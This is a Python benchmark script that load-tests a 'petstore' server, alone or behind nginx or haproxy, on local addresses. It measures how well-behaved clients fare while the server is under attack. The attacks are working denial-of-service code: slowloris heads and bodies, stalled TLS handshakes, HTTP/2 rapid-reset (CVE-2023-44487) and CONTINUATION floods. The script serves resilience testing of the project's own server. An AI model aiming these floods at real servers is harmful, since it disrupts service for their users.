#!/usr/bin/env python3
"""Attacks a petstore with connections, alone or behind the proxies of docs/proxy, and measures what others notice.

    cargo build --release && benches/abuse/abuse.py nginx haproxy none

Attack: idle connections, stalled TLS handshakes, unfinished heads, readers that do not read, floods of HTTP/2 frames,
and bodies of a byte now and then, all at once, from 250 addresses of 127.0.0.0/8. What the server closes is opened again. Meanwhile one client sends
a request each 20 ms over a connection that it keeps, another one connects anew each 200 ms, and the panel is read.
"""

import argparse
import asyncio
import functools
import http.client
import json
import multiprocessing
import os
import pathlib
import random
import re
import resource
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time

ROOT = pathlib.Path(__file__).resolve().parents[2]
NAME = "localhost"
ADDRESSES = [f"127.1.0.{number}" for number in range(1, 251)]
# Processes that attack, and the new connections of each in a second.
ATTACKERS = 2
CONNECTS = 1000

# The begin of a ClientHello of TLS, whose rest never comes.
HALF_HELLO = bytes.fromhex("16030102000100 01fc0303".replace(" ", "")) + bytes(32)
HALF_HEAD = b"GET /pets HTTP/1.1\r\nHost: localhost\r\nX-Half: " + b"x" * 500


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
# `GET / https localhost` (RFC 7541).
HEADERS = b"\x82\x87\x84\x41" + bytes([len(NAME)]) + NAME.encode()


def rapid_reset(first):
    """Requests that are cancelled at once (CVE-2023-44487)."""
    streams = range(first, first + 200, 2)
    cancel = struct.pack(">I", 8)
    return b"".join(frame(1, 5, it, HEADERS) + frame(3, 0, it, cancel) for it in streams)


def pings(_):
    return frame(6, 0, 0, bytes(8)) * 100


def settings(_):
    return frame(4, 0, 0, b"\x00\x04\x00\x00\xff\xff") * 100


def continuations(first):
    """A head that never ends (VU#421644)."""
    begin = frame(1, 1, 1, HEADERS) if first == 1 else b""
    return begin + frame(9, 0, 1, b"\x00\x01x\x01y" * 100) * 10


FLOODS = [rapid_reset, pings, settings, continuations]

# How a slow body begins, and how it goes on: little of it, more than many a buffer, and without its length.
BODIES = [
    (b"Content-Length: 60000\r\n\r\n{", b" "),
    (b"Content-Length: 60000\r\n\r\n{" + b" " * 40000, b" "),
    (b"Transfer-Encoding: chunked\r\n\r\n9c40\r\n{" + b" " * 39999 + b"\r\n", b"1\r\n \r\n"),
]


class Attack:
    """What runs in the process of the attacker."""

    def __init__(self, port, key, seconds, numbers):
        self.port, self.key, self.end, self.numbers = port, key, time.monotonic() + seconds, numbers
        self.held = dict.fromkeys(numbers, 0)
        self.peak = dict(self.held)
        self.opened = dict(self.held)
        self.frames = 0
        self.tokens = asyncio.Semaphore(0)

    async def run(self):
        order = [(kind, number) for kind, count in self.numbers.items() for number in range(count)]
        random.shuffle(order)
        work = [asyncio.create_task(self.repeat(kind, number)) for kind, number in order]
        while time.monotonic() < self.end:
            # At least one, and no more than these at once.
            for _ in range(CONNECTS // 20):
                self.tokens.release()
            await asyncio.sleep(0.05)
        del work
        return {"peak": self.peak, "opened": self.opened, "frames": self.frames}

    async def repeat(self, kind, number):
        protocol, action = KINDS[kind]
        while True:
            await self.tokens.acquire()
            writer = None
            try:
                connecting = asyncio.open_connection(
                    "127.0.0.1",
                    self.port,
                    ssl=client_context(protocol) if protocol else None,
                    server_hostname=NAME if protocol else None,
                    local_addr=(random.choice(ADDRESSES), 0),
                    limit=4096,
                )
                reader, writer = await asyncio.wait_for(connecting, 15)
                self.opened[kind] += 1
                self.held[kind] += 1
                self.peak[kind] = max(self.peak[kind], self.held[kind])
                try:
                    await action(self, reader, writer, number)
                finally:
                    self.held[kind] -= 1
            except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
                pass
            finally:
                if writer:
                    writer.transport.abort()

    async def silent(self, reader, *_):
        while await reader.read(4096):
            pass

    async def stalled(self, reader, writer, _number):
        writer.write(HALF_HELLO)
        await self.silent(reader)

    async def head(self, reader, writer, _number):
        writer.write(HALF_HEAD)
        await self.silent(reader)

    async def reader(self, reader, writer, _number):
        writer.write(b"GET /docs/scalar.js HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20)
        reader._transport.pause_reading()
        await asyncio.sleep(30)

    async def flood(self, reader, writer, number):
        make = FLOODS[number % len(FLOODS)]
        writer.write(PREFACE)
        drained = asyncio.create_task(self.silent(reader))
        try:
            for first in range(1, 1 << 30, 200):
                writer.write(make(first))
                self.frames += 100
                await writer.drain()
                # Others must be able to run.
                await asyncio.sleep(0)
                if drained.done():
                    return
        finally:
            drained.cancel()

    async def body(self, reader, writer, number):
        begin, byte = BODIES[number % len(BODIES)]
        head = f"POST /categories HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {self.key}\r\n"
        writer.write(head.encode() + begin)
        drained = asyncio.create_task(self.silent(reader))
        try:
            while not drained.done():
                writer.write(byte)
                await writer.drain()
                await asyncio.wait([drained], timeout=2)
        finally:
            drained.cancel()


# The protocol of TLS, if there is TLS, and what is done then.
KINDS = {
    "silent": (None, Attack.silent),
    "idle": ("http/1.1", Attack.silent),
    "stalled": (None, Attack.stalled),
    "heads": ("http/1.1", Attack.head),
    "readers": ("http/1.1", Attack.reader),
    "floods": ("h2", Attack.flood),
    "bodies": ("http/1.1", Attack.body),
}


@functools.cache
def client_context(protocol):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


def attack(port, key, seconds, numbers, pipe):
    os.nice(19)
    attack = Attack(port, key, seconds, numbers)
    pipe.send(asyncio.new_event_loop().run_until_complete(attack.run()))
    # To end thousands of tasks in order takes long, and nobody needs it.
    os._exit(0)


def well_behaved(port, key, interval, keeps, seconds, pipe):
    """Sends a request each `interval` seconds, and reports the times of the answers and the failures."""
    context = client_context("http/1.1")
    request = f"GET /pets HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {key}\r\n\r\n".encode()
    times, failures, connection = [], {}, None
    end = time.monotonic() + seconds
    while (begin := time.monotonic()) < end:
        try:
            if not connection:
                plain = socket.create_connection(("127.0.0.1", port), timeout=10)
                plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                connection = context.wrap_socket(plain, server_hostname=NAME)
            connection.sendall(request)
            response = http.client.HTTPResponse(connection)
            response.begin()
            response.read()
            if response.status == 200:
                times.append(time.monotonic() - begin)
            else:
                failures[str(response.status)] = failures.get(str(response.status), 0) + 1
            if not keeps or response.will_close:
                connection.close()
                connection = None
        except OSError as error:
            name = type(error).__name__
            failures[name] = failures.get(name, 0) + 1
            connection = None
        time.sleep(max(0, begin + interval - time.monotonic()))
    pipe.send((times, failures))


def read_panel(panel, path):
    begin = time.monotonic()
    connection = http.client.HTTPConnection(*panel, timeout=10)
    connection.request("GET", path)
    response = connection.getresponse()
    text = response.read().decode()
    return response.status, text, time.monotonic() - begin


def free_port():
    with socket.socket() as it:
        it.bind(("127.0.0.1", 0))
        return it.getsockname()[1]


def memory(root):
    """The resident memory of a process and its children, in MB. Shared pages count once, by the proportional size."""
    total, seen = 0, [root]
    while seen:
        process = seen.pop()
        try:
            for task in pathlib.Path(f"/proc/{process}/task").iterdir():
                seen += (task / "children").read_text().split()
            rollup = pathlib.Path(f"/proc/{process}/smaps_rollup").read_text()
            total += int(re.search(r"^Pss:\s+(\d+)", rollup, re.M)[1])
        except OSError:
            pass
    return total / 1000


def start_proxy(kind, folder, backend):
    """Starts a proxy with its configuration of docs/proxy, for other paths and ports."""
    port = free_port()
    name, command, replacements = {
        "nginx": (
            "nginx.conf",
            ["nginx", "-g", "daemon off;", "-e", folder / "nginx.log", "-c"],
            [
                ("listen 443", f"listen 127.0.0.1:{port}"),
                ("/var/log/nginx/error.log", folder / "nginx.log"),
                ("/run/nginx.pid", folder / "nginx.pid"),
            ],
        ),
        "haproxy": (
            "haproxy.cfg",
            ["haproxy", "-db", "-f"],
            [
                ("bind :443", f"bind 127.0.0.1:{port}"),
                # It wants two files for each client, which are needed only where the petstore takes as many.
                ("    maxconn 18000", "    maxconn 18000\n    no strict-limits"),
            ],
        ),
    }[kind]
    text = (ROOT / "docs/proxy" / name).read_text()
    for old, new in [("127.0.0.1:8080", backend), ("/etc/petstore", folder), *replacements]:
        assert old in text, old
        text = text.replace(old, str(new))
    (folder / name).write_text(text)
    return port, subprocess.Popen([*command, folder / name], cwd=folder)


def quantile(values, share):
    return sorted(values)[min(len(values) - 1, int(len(values) * share))] if values else float("nan")


def run(kind, options):
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        folder.chmod(0o755)
        certificate, key_file = folder / "certificate.pem", folder / "key.pem"
        make = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=localhost"
        subprocess.run([*make.split(), "-keyout", key_file, "-out", certificate], check=True, capture_output=True)
        (folder / "haproxy.pem").write_bytes(certificate.read_bytes() + key_file.read_bytes())
        arguments = ["serve", "--listen", "127.0.0.1:0", "--admin-listen", "127.0.0.1:0", "--log-format", "json"]
        if kind == "none":
            arguments += ["--tls-cert", certificate, "--tls-key", key_file]
        else:
            arguments += ["--trusted-proxy", "127.0.0.1/32"]
        limit = (options.files, options.files) if options.files else resource.getrlimit(resource.RLIMIT_NOFILE)
        server = subprocess.Popen(
            [options.petstore, *arguments],
            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, limit),
            cwd=folder,
            stdout=subprocess.PIPE,
            stderr=(folder / "log").open("w"),
            text=True,
        )
        proxy = None
        try:
            addresses = [re.search(r"://([\d.]+):(\d+)", server.stdout.readline()) for _ in range(2)]
            (host, backend), panel = addresses[0].groups(), (addresses[1][1], int(addresses[1][2]))
            limits = ["--plan", "enterprise", "--per-minute", "1000000", "--per-day", "100000000"]
            create = [options.petstore, "keys", "create", "--name", "abuse", *limits, "--json"]
            created = subprocess.run(create, cwd=folder, capture_output=True, check=True, text=True)
            key = json.loads(created.stdout)["key"]
            port = int(backend)
            if kind != "none":
                port, proxy = start_proxy(kind, folder, f"{host}:{backend}")
                time.sleep(1)
            for attacked in (False, True):
                measure(kind, attacked, port, key, panel, server, proxy, options)
        finally:
            for process in filter(None, (proxy, server)):
                process.send_signal(signal.SIGTERM)
                try:
                    process.wait(12)
                except subprocess.TimeoutExpired:
                    process.kill()
                    process.wait()


def measure(kind, attacked, port, key, panel, server, proxy, options):
    seconds = options.seconds if attacked else 5
    numbers = dict(zip(KINDS, options.numbers))
    spawn = multiprocessing.get_context("fork")
    processes, pipes = [], []

    def begin(target, *arguments):
        ours, theirs = spawn.Pipe()
        process = spawn.Process(target=target, args=(*arguments, theirs))
        process.start()
        theirs.close()
        processes.append(process)
        pipes.append(ours)

    begin(well_behaved, port, key, 0.02, True, seconds)
    begin(well_behaved, port, key, 0.2, False, seconds)
    for _ in range(ATTACKERS if attacked else 0):
        share = {kind: count // ATTACKERS for kind, count in numbers.items()}
        begin(attack, port, key, seconds, share)
    end = time.monotonic() + seconds
    peaks, panel_times, panel_failures, files = [0, 0], [], 0, 0
    while time.monotonic() < end:
        peaks = [max(peak, memory(it.pid) if it else 0) for peak, it in zip(peaks, (server, proxy))]
        for path in ("/healthz", "/readyz", "/metrics"):
            try:
                status, text, took = read_panel(panel, path)
                panel_times.append(took)
                panel_failures += status != 200
                found = re.search(r"^petstore_open_files (\d+)", text, re.M)
                files = max(files, int(found[1]) if found else 0)
            except OSError:
                panel_failures += 1
        time.sleep(0.5)
    results = [it.recv() if it.poll(60) else None for it in pipes]
    for process in processes:
        process.join(10)
        if process.is_alive():
            process.kill()
    columns = [kind, "attack" if attacked else "rest"]
    for times, failures in results[:2]:
        text = "/".join(f"{quantile(times, share) * 1000:.1f}" for share in (0.5, 0.99, 1))
        columns += [text, str(len(times)), json.dumps(failures) if failures else "0"]
    columns += [f"{max(panel_times, default=float('nan')) * 1000:.0f}", str(panel_failures)]
    columns += [f"{peak:.0f}" for peak in peaks] + [str(files)]
    print("| " + " | ".join(columns) + " |", flush=True)
    for result in filter(None, results[2:]):
        print("  an attacker: " + json.dumps(result), file=sys.stderr, flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("proxies", nargs="+", choices=["none", "nginx", "haproxy"])
    parser.add_argument("--petstore", default=ROOT / "target/release/petstore", type=pathlib.Path)
    parser.add_argument("--seconds", type=int, default=40)
    parser.add_argument("--files", type=int, help="the petstore's limit of open files")
    default = [8000, 2000, 3000, 1500, 200, 20, 2000]
    parser.add_argument(
        "--numbers",
        type=int,
        nargs=len(KINDS),
        default=default,
        metavar="N",
        help="silent and idle connections, stalled handshakes, unfinished heads, readers, floods, slow bodies",
    )
    options = parser.parse_args()
    options.petstore = options.petstore.resolve()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    # Fewer files cannot hold the attack.
    assert hard == resource.RLIM_INFINITY or hard > sum(options.numbers) + 200, f"raise ulimit -n above {hard}"
    print("Milliseconds are median/99th percentile/slowest; memory is the highest in MB.\n", flush=True)
    head = "| proxy | state | kept connection, ms | answers | failures | new connection, ms | answers | failures"
    print(head + " | panel, slowest ms | failures | petstore MB | proxy MB | petstore's files |")
    print("| --- " * 13 + "|")
    for kind in options.proxies:
        run(kind, options)


if __name__ == "__main__":
    main()
